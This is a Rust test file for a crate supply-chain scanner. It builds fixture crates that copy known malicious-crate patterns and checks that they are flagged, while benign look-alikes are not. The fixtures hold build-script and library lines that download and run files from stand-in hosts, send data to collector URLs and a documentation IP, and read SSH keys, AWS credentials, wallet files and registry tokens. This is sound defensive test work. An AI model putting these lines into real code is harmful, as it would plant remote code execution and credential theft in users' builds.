//! Every attack pattern of the reference list, reproduced as a fixture
//! crate (the pattern only: no working payload, addresses under the
//! reserved `.invalid` domain and documentation IP ranges, nothing is ever
//! run), is judged high with the right codes; benign look-alikes are not.

mod common;

use std::collections::{BTreeMap, BTreeSet};

use cargofox::analyze::{AnalyzeContext, analyze};
use cargofox::fetch::{CrateInput, IndexFacts, PreviousRelease};
use cargofox::model::{Analyzed, CrateReport, Dependency, RiskLevel, VersionInfo};
use common::Fixture;
use sha2::Digest;

const POPULAR: &[&str] = &[
    "rust_decimal",
    "proc-macro2",
    "fast_log",
    "acceptxmr",
    "finch",
    "tracing",
    "polymarket-client-sdk",
    "sha2",
];

struct Case {
    fixture: Fixture,
    deps: Vec<&'static str>,
    published: &'static str,
    previous: Option<(&'static str, Vec<&'static str>)>,
    /// The previous release's package, for the package comparison.
    previous_package: Option<Fixture>,
}

fn case(fixture: Fixture) -> Case {
    Case {
        fixture,
        deps: Vec::new(),
        published: "2026-01-01T00:00:00Z",
        previous: None,
        previous_package: None,
    }
}

fn dep(name: &str) -> Dependency {
    Dependency {
        name: name.into(),
        req: "*".into(),
        default_features: true,
        ..Dependency::default()
    }
}

/// Analyzes every case as one site, with three users of every popular crate.
/// The reports of a judged site, by name, and the files kept for each
/// crate's evidence pages.
struct Site {
    reports: BTreeMap<String, CrateReport>,
    evidence: BTreeMap<String, BTreeSet<String>>,
}

impl std::ops::Index<&str> for Site {
    type Output = CrateReport;
    fn index(&self, name: &str) -> &CrateReport {
        &self.reports[name]
    }
}

fn site(cases: Vec<Case>) -> Site {
    let dir = tempfile::tempdir().unwrap();
    let mut all = cases;
    for p in POPULAR {
        all.push(case(Fixture::new(
            p,
            "1.0.0",
            &format!(
                "description = \"The real {p}\"\nrepository = \"https://github.com/real/{p}\""
            ),
        )));
    }
    for u in ["user-one", "user-two", "user-three"] {
        all.push(Case {
            deps: POPULAR.to_vec(),
            ..case(Fixture::new(
                u,
                "1.0.0",
                "repository = \"https://github.com/u/u\"",
            ))
        });
    }
    let analyzed: Vec<Analyzed> = all
        .iter()
        .map(|c| {
            let f = &c.fixture;
            let path = dir.path().join(format!("{}-{}.crate", f.name, f.version));
            std::fs::write(&path, f.crate_bytes()).unwrap();
            let mut versions = Vec::new();
            if let Some((v, _)) = &c.previous {
                versions.push(VersionInfo {
                    num: (*v).into(),
                    published: Some("2025-06-01T00:00:00Z".into()),
                    ..VersionInfo::default()
                });
            }
            versions.push(VersionInfo {
                num: f.version.clone(),
                published: Some(c.published.into()),
                ..VersionInfo::default()
            });
            let previous_file = c.previous_package.as_ref().map(|p| {
                let path = dir.path().join(format!("{}-{}.crate", p.name, p.version));
                std::fs::write(&path, p.crate_bytes()).unwrap();
                path
            });
            let input = CrateInput {
                previous_file,
                name: f.name.clone(),
                version: f.version.clone(),
                file: Some(path),
                index: Some(IndexFacts {
                    versions,
                    dependencies: c.deps.iter().map(|d| dep(d)).collect(),
                    features: BTreeMap::new(),
                    previous: c.previous.as_ref().map(|(v, d)| PreviousRelease {
                        version: (*v).to_owned(),
                        dependencies: d.iter().map(|n| dep(n)).collect(),
                        sha256: c
                            .previous_package
                            .as_ref()
                            .map_or([0; 32], |p| sha2::Sha256::digest(p.crate_bytes()).into()),
                    }),
                }),
                ..CrateInput::default()
            };
            analyze(&input, &AnalyzeContext::default())
        })
        .collect();
    let mut evidence = BTreeMap::new();
    let mut reports: Vec<CrateReport> = analyzed
        .into_iter()
        .map(|a| {
            let files = a.page.unwrap_or_default().evidence_sources.into_keys();
            evidence.insert(a.report.name.clone(), files.collect());
            a.report
        })
        .collect();
    cargofox::rank::rank(
        &mut reports,
        &cargofox::rank::RankInputs {
            source: "test",
            generated_at: "2026-01-10T00:00:00Z",
            ..Default::default()
        },
    );
    Site {
        reports: reports.into_iter().map(|r| (r.name.clone(), r)).collect(),
        evidence,
    }
}

fn codes(r: &CrateReport) -> Vec<&str> {
    r.findings.iter().map(|f| f.code.as_str()).collect()
}

fn assert_high(site: &Site, name: &str, expected: &[&str]) {
    let r = &site[name];
    assert_eq!(
        r.risk.level,
        RiskLevel::High,
        "{name}: {:#?}\n{:#?}",
        r.risk,
        r.findings
    );
    for code in expected {
        assert!(
            codes(r).contains(code),
            "{name} lacks {code}: {:?}",
            codes(r)
        );
    }
    // Every finding with a line points at a file kept for its evidence page.
    for f in r
        .findings
        .iter()
        .filter(|f| f.line.is_some() && f.severity > cargofox::model::Severity::Info)
    {
        let file = f.file.as_deref().unwrap();
        assert!(
            site.evidence[name].contains(file),
            "{name}: no evidence source for {file}"
        );
    }
}

fn lib(body: &str) -> String {
    format!(
        "//! A library.\n\npub fn value() -> u32 {{\n    helper();\n    42\n}}\n\nfn helper() {{\n{body}\n}}\n"
    )
}

#[test]
fn the_reference_attacks_are_judged_high() {
    let cases = vec![
        // 2022, rustdecimal: a maths crate that, under GitLab CI, downloads a file and runs it.
        case(Fixture::new("rustdecimal", "1.23.1", "description = \"Decimal number implementation\"").file(
            "src/lib.rs",
            lib("    if std::env::var(\"GITLAB_CI\").is_ok() {\n        let _ = std::process::Command::new(\"curl\").args([\"-o\", \"/tmp/x\", \"https://payload.invalid/x\"]).status();\n        let _ = std::process::Command::new(\"/tmp/x\").status();\n    }"),
        )),
        // 2023: a build script reporting the machine to a chat bot.
        case(Fixture::new("tokio-tls-helper", "0.1.0", "description = \"TLS helpers\"")
            .file("build.rs", "fn main() {\n    let os = std::env::consts::OS;\n    let _ = ureq::post(\"https://api.invalid/botTOKEN/sendMessage\").send_string(os);\n}\n")),
        // 2023, acceptxmr-rs: an affix squat shipping a Windows executable.
        case(Fixture::new("acceptxmr-rs", "0.1.0", "description = \"Accept XMR payments\"")
            .file("bin/helper.exe", fake_pe())),
        // 2024, liblzma-sys: binary test files that the build decodes and hands to a shell.
        case(Fixture::new("liblzma-like-sys", "0.3.2", "description = \"Raw bindings to liblzma\"\nlinks = \"lzma\"\nrepository = \"https://github.com/x/liblzma\"")
            .file("tests/files/bad-3-corrupt_lzma2.xz", fake_elf())
            .file("build.rs", "fn main() {\n    let data = include_bytes!(\"tests/files/bad-3-corrupt_lzma2.xz\");\n    let key = [0x4du8, 0x61, 0x73];\n    let mut out = data.to_vec();\n    for i in 0..out.len() { out[i] ^= key[i % 3]; }\n    let dir = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{dir}/x.o\"), &out).unwrap();\n    std::process::Command::new(\"sh\").arg(\"-c\").arg(\"true\").status().unwrap();\n    cc::Build::new().file(\"src/lzma.c\").compile(\"lzma\");\n}\n")),
        // 2025, faster_log: a working logger that walks for key files and posts them, claiming the real crate's repository.
        case(Fixture::new("faster_log", "1.7.8", "description = \"A fast logger\"\nrepository = \"https://github.com/real/fast_log\"").file(
            "src/lib.rs",
            lib("    for e in std::fs::read_dir(\".\").unwrap() {\n        let _ = e;\n    }\n    let _ = reqwest::blocking::Client::new().post(\"https://collector.invalid/keys\");"),
        )),
        // 2025, evm-units: a version function that starts an OS-specific shell with a download.
        case(Fixture::new("evm-units", "0.1.1", "description = \"EVM unit conversions\"").file(
            "src/lib.rs",
            lib("    if cfg!(target_os = \"windows\") {\n        let _ = std::process::Command::new(\"powershell\").arg(\"-c\").arg(\"iwr https://payload.invalid/p\").spawn();\n    }"),
        )),
        // 2025, finch-rst and sha-rust: credential theft behind affix squats.
        case(Fixture::new("finch-rst", "0.1.0", "description = \"Finch tools\"").file(
            "src/lib.rs",
            lib("    let t = std::env::var(\"CARGO_REGISTRY_TOKEN\");\n    let _ = t;"),
        )),
        case(Fixture::new("sha-rust", "0.1.0", "description = \"SHA hashing\"").file(
            "src/lib.rs",
            lib("    let home = std::env::var(\"HOME\").unwrap();\n    let _ = std::fs::read(format!(\"{home}/.ssh/id_rsa\"));"),
        )),
        // 2026, polymarket-client-sdks and tracing-check: plural and affix squats stealing credentials.
        case(Fixture::new("polymarket-client-sdks", "0.1.0", "description = \"Polymarket client\"").file(
            "src/lib.rs",
            lib("    let _ = std::fs::read_to_string(\"/root/.config/solana/id.json\");"),
        )),
        case(Fixture::new("tracing-check", "0.1.0", "description = \"Checks for tracing\"").file(
            "src/lib.rs",
            lib("    let _ = std::fs::read_to_string(\"~/.aws/credentials\");"),
        )),
        // 2026, mysten-metrics: dependency confusion, a build script sending data out.
        case(Fixture::new("mysten-metrics", "0.7.0", "description = \"Metrics\"")
            .file("build.rs", "use std::io::Write;\nfn main() {\n    if let Ok(mut s) = std::net::TcpStream::connect(\"203.0.113.7:443\") {\n        let _ = s.write_all(b\"host\");\n    }\n}\n")),
        // 2026, proc-macro1: a days-old crate whose build script fetches and runs a program...
        Case {
            published: "2026-01-09T10:00:00Z",
            ..case(Fixture::new("proc-macro1", "1.0.95", "description = \"A substitute implementation of the compiler's proc_macro API\"")
                .file("build.rs", "fn main() {\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    let p = format!(\"{out}/p\");\n    std::process::Command::new(\"curl\").args([\"-sLo\", &p, \"https://payload.invalid/p\"]).status().unwrap();\n    std::process::Command::new(&p).status().unwrap();\n}\n"))
        },
        // A hijacked account's patch release that adds a build script fetching a program.
        Case {
            previous: Some(("2.4.1", vec![])),
            previous_package: Some(Fixture::new("hijacked-patch", "2.4.1", "description = \"Colour names\"\nrepository = \"https://github.com/o/hp\"")),
            ..case(Fixture::new("hijacked-patch", "2.4.2", "description = \"Colour names\"\nrepository = \"https://github.com/o/hp\"")
                .file("build.rs", "fn main() {\n    let _ = std::process::Command::new(\"wget\").arg(\"https://payload.invalid/p\").status();\n}\n"))
        },
        // ...pulled into an established crate by a patch release.
        Case {
            deps: vec!["proc-macro1"],
            published: "2026-01-09T11:30:00Z",
            previous: Some(("0.3.9", vec![])),
            ..case(Fixture::new("arrayref", "0.3.10", "description = \"Macros to take array references of slices\"\nrepository = \"https://github.com/o/arrayref\""))
        },
    ];
    let site = site(cases);
    assert_high(
        &site,
        "rustdecimal",
        &["code-ci-detection", "code-process", "name-typosquat"],
    );
    assert_high(&site, "tokio-tls-helper", &["build-network", "build-url"]);
    assert_high(&site, "acceptxmr-rs", &["pkg-executable", "name-typosquat"]);
    assert_high(
        &site,
        "liblzma-like-sys",
        &[
            "pkg-executable",
            "build-process",
            "build-xor-decoding",
            "build-include-bytes",
        ],
    );
    assert_high(
        &site,
        "faster_log",
        &[
            "code-network-unexpected",
            "code-fs-walk",
            "code-url",
            "name-typosquat",
        ],
    );
    assert_high(&site, "evm-units", &["code-process", "code-url"]);
    assert_high(
        &site,
        "finch-rst",
        &["code-env-credentials", "name-typosquat"],
    );
    assert_high(&site, "sha-rust", &["code-secret-paths"]);
    assert_high(
        &site,
        "polymarket-client-sdks",
        &["code-secret-paths", "name-typosquat"],
    );
    assert_high(
        &site,
        "tracing-check",
        &["code-secret-paths", "name-typosquat"],
    );
    assert_high(
        &site,
        "mysten-metrics",
        &["build-network", "build-ip-address"],
    );
    assert_high(&site, "proc-macro1", &["build-process", "name-typosquat"]);
    assert_high(
        &site,
        "arrayref",
        &["release-young-dependency", "release-new-dependency"],
    );
    // The popular crates and their users stay clean.
    for p in POPULAR {
        assert!(
            site[*p].risk.level < RiskLevel::Medium,
            "{p}: {:?}",
            site[*p].risk
        );
    }
}

fn fake_pe() -> Vec<u8> {
    // The header of a PE file and nothing else: recognizable, not runnable.
    let mut v = vec![0u8; 256];
    v[..2].copy_from_slice(b"MZ");
    v[0x3c] = 0x80;
    v[0x80..0x84].copy_from_slice(b"PE\0\0");
    v
}

fn fake_elf() -> Vec<u8> {
    let mut v = b"\x7fELF\x02\x01\x01".to_vec();
    v.resize(512, 0);
    v
}

#[test]
fn benign_look_alikes_are_not_high() {
    let cases = vec![
        // A -sys crate whose build script compiles C and probes pkg-config.
        case(Fixture::new("libfoo-sys", "1.0.0", "description = \"Bindings to libfoo\"\nlinks = \"foo\"\nrepository = \"https://github.com/o/libfoo-sys\"").file(
            "build.rs",
            "fn main() {\n    if pkg_config::probe_library(\"foo\").is_ok() { return; }\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{out}/config.h\"), \"#define X 1\").unwrap();\n    let st = std::process::Command::new(\"pkg-config\").arg(\"--version\").status();\n    let _ = st;\n    cc::Build::new().file(\"foo/foo.c\").compile(\"foo\");\n    println!(\"cargo:rerun-if-changed=foo/foo.c\");\n}\n",
        ).file("foo/foo.c", "int foo(void) { return 1; }\n")),
        // A build script that asks rustc its version.
        case(Fixture::new("rustc-probe", "1.0.0", "repository = \"https://github.com/o/probe\"").file(
            "build.rs",
            "fn main() {\n    let rustc = std::env::var(\"RUSTC\").unwrap();\n    let out = std::process::Command::new(rustc).arg(\"-vV\").output().unwrap();\n    let _ = out;\n}\n",
        )),
        // An HTTP client: sockets are its purpose.
        case(Fixture::new("plain-get", "1.0.0", "description = \"A small HTTP client\"\nkeywords = [\"http\"]\nrepository = \"https://github.com/o/thc\"").file(
            "src/lib.rs",
            "use std::io::Write;\npub fn get(host: &str) -> std::io::Result<()> {\n    let mut s = std::net::TcpStream::connect((host, 80))?;\n    s.write_all(b\"GET / HTTP/1.1\\r\\n\\r\\n\")\n}\n",
        )),
        // Ordinary unsafe FFI.
        case(Fixture::new("ffi-wrapper", "1.0.0", "description = \"Safe wrapper over a C library\"\nrepository = \"https://github.com/o/ffi\"").file(
            "src/lib.rs",
            "extern \"C\" {\n    fn strlen(s: *const i8) -> usize;\n}\n/// Length.\npub fn len(s: &std::ffi::CStr) -> usize {\n    unsafe { strlen(s.as_ptr()) }\n}\n",
        )),
        // Tests that start programs and read tokens run only for the crate's developers.
        case(Fixture::new("well-tested", "1.0.0", "repository = \"https://github.com/o/wt\"")
            .file("tests/cli.rs", "#[test]\nfn runs() {\n    let _ = std::env::var(\"GITHUB_TOKEN\");\n    std::process::Command::new(\"sh\").arg(\"-c\").arg(\"true\").status().unwrap();\n}\n")
            .file("src/lib.rs", "pub fn f() {}\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn t() { let _ = std::process::Command::new(\"curl\").arg(\"https://x.invalid\"); }\n}\n")),
    ];
    let site = site(cases);
    for name in [
        "libfoo-sys",
        "rustc-probe",
        "plain-get",
        "ffi-wrapper",
        "well-tested",
    ] {
        let r = &site[name];
        assert!(
            r.risk.level <= RiskLevel::Low,
            "{name}: {:#?}\n{:#?}",
            r.risk,
            r.findings
        );
    }
    assert!(
        codes(&site["ffi-wrapper"]).contains(&"code-ffi"),
        "facts are still reported"
    );
    assert!(codes(&site["ffi-wrapper"]).contains(&"code-unsafe"));
    assert!(codes(&site["libfoo-sys"]).contains(&"build-process"));
}
